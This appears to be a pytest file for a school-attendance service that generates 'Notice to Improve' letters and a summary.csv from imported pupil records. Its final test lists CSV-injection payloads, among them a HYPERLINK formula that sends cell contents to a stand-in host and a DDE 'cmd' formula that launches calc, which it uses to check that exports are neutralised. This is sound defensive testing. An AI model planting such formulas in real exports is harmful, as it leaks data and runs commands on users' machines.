"""Batch documents: one Notice to Improve per eligible pupil in a ZIP, read back, and summary.csv."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import date

import pytest

from service import forms
from service.engines import Engines
from service.imports import batch
from service.imports import ctf as reader
from service.imports.cases import defaults
from service.imports.run import write
from service.imports.scan import run
from service.problems import Problem
from tests.imports.builders import COUNCIL_DEFAULTS
from tests.imports.builders import contact
from tests.imports.builders import ctf
from tests.imports.builders import marks
from tests.imports.builders import pupil
from tests.imports.builders import upn
from tests.imports.builders import year_data

START, END = date(2026, 9, 7), date(2026, 11, 20)
HALF_TERM = tuple(date(2026, 10, d) for d in range(26, 31))


def truant(days: tuple[int, ...]) -> str:
    return marks(START, END, {date(2026, 11, d): "NN" for d in days}, HALF_TERM)


def school() -> bytes:
    return ctf([
        pupil(1, "Isla", "Ashworth", contacts=(contact("Kate", "Ashworth"),),
              years=(year_data(2026, 100, 0, 10, START, truant((9, 10, 11, 12, 13))),)),
        pupil(2, "Leo", "Pemberton", sex="M", contacts=(contact("Jo", "Pemberton"),),
              years=(year_data(2026, 100, 0, 2, START, truant((16,))),)),
        pupil(3, "Amelia", "Whitlock", contacts=(contact("Ruth", "Whitlock"),),
              years=(year_data(2026, 100, 0, 12, START, truant((9, 10, 11, 12, 13, 16))),)),
        pupil(4, "Noah", "Langdon", sex="M", contacts=(contact("Emma", "Langdon", phone="12345"),),
              years=(year_data(2026, 100, 0, 10, START, truant((9, 10, 11, 12, 13))),)),
    ])


def test_zip_holds_one_notice_per_eligible_pupil_and_a_summary(docx_text):
    given = defaults(COUNCIL_DEFAULTS, "ctf")
    with batch.archive(run(reader.read(school()), given), "notice-to-improve", "docx", Engines(), given) as archive:
        zipped = zipfile.ZipFile(archive)
        names = zipped.namelist()
        letters = {n: docx_text(zipped.read(n)) for n in names if n.endswith(".docx")}
        summary = list(csv.reader(io.StringIO(zipped.read("summary.csv").decode("utf-8-sig"))))
    assert names == ["notice-to-improve-ashworth-isla-2026-09-07.docx",
                     "notice-to-improve-whitlock-amelia-2026-09-07.docx", "summary.csv"]
    assert "Isla Ashworth" in letters[names[0]] and "Amelia Whitlock" in letters[names[1]]
    assert "Kate Ashworth" in letters[names[0]] and "Leo" not in letters[names[0]] + letters[names[1]]
    # The council is the one the case part names (no file: its details), on every notice.
    assert all(COUNCIL_DEFAULTS["council_details"]["name"] in text for text in letters.values())
    assert summary == [
        list(batch.COLUMNS),
        ["6", upn(1), "Isla Ashworth", "produced", names[0], "", "notice-to-improve", "10", "90.0"],
        ["7", upn(2), "Leo Pemberton", "not_allowed", "", "not_allowed_by_rules", "", "2", "98.0"],
        ["8", upn(3), "Amelia Whitlock", "produced", names[1], "", "notice-to-improve", "12", "88.0"],
        # The rules allow it, but the parent's phone number is not one: the case cannot produce it yet.
        ["9", upn(4), "Noah Langdon", "cannot_produce", "", "invalid_phone", "notice-to-improve", "10", "90.0"],
    ]


def test_the_document_asked_for_is_checked_before_any_work():
    given = defaults(COUNCIL_DEFAULTS, "ctf")
    assert batch.check("notice-to-improve", None, given) == "docx"
    assert batch.check("generic-request", None, given) == "pdf"
    with pytest.raises(Problem) as fmt:
        batch.check("generic-request", "docx", given)
    assert (fmt.value.status, fmt.value.code) == (400, "unsupported_format")
    # The councils' own forms are not for a council with no file.
    others = [d.id for d in forms.all() if not given.council.accepts(d.id)]
    assert others
    for document_id in others:
        with pytest.raises(Problem) as council:
            batch.check(document_id, None, given)
        assert (council.value.status, council.value.code) == (422, "document_not_for_council"), document_id


def test_write_puts_cases_scan_errors_and_documents_in_a_folder(tmp_path):
    given = defaults(COUNCIL_DEFAULTS, "ctf")
    found = write(tmp_path / "out", reader.read(school()), given, "notice-to-improve")
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["cases.json", "documents", "errors.json", "scan.json",
                                                                            "warnings.json"]
    assert sorted(p.name for p in (tmp_path / "out" / "documents").iterdir()) == [
        "notice-to-improve-ashworth-isla-2026-09-07.docx", "notice-to-improve-whitlock-amelia-2026-09-07.docx",
        "summary.csv"]
    assert json.loads((tmp_path / "out" / "errors.json").read_text()) == found["errors"] == [
        {"path": "pupils[3].parents[0].phone", "code": "invalid_phone",
         "message": "This is not a UK phone number (for example 01632 960100).", "line": 9, "count": 1,
         "lines": [9], "pupil": upn(4)}]


FORMULAS = ['=HYPERLINK("http://x.example/?"&B2&C2,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\uff1dHYPERLINK(1)"]


@pytest.mark.parametrize("forename", FORMULAS)
def test_a_formula_in_a_name_is_text_in_the_summary(forename):
    """OWASP CSV injection: a cell that starts a formula is written with a leading quote, and every cell
    is quoted, so a spreadsheet shows it as the text it is."""
    export = ctf([pupil(1, forename, "Ashworth", contacts=(contact("Kate", "Ashworth"),),
                        years=(year_data(2026, 100, 0, 10, START, truant((9, 10, 11, 12, 13))),))])
    given = defaults(COUNCIL_DEFAULTS, "ctf")
    with batch.archive(run(reader.read(export), given), "notice-to-improve", "docx", Engines(), given) as archive:
        raw = zipfile.ZipFile(archive).read("summary.csv").decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(raw)))[1]
    assert row[2] == "'" + forename + " Ashworth"
    assert all(line.startswith('"') for line in raw.splitlines() if line)


def test_safe_cell_leaves_numbers_and_plain_text_alone():
    from service.spreadsheet import safe_cell

    assert [safe_cell(v) for v in ("Isla", 10, 90.5, "", "a=b", "\tx", "\rx")] == [
        "Isla", 10, 90.5, "", "a=b", "'\tx", "'\rx"]
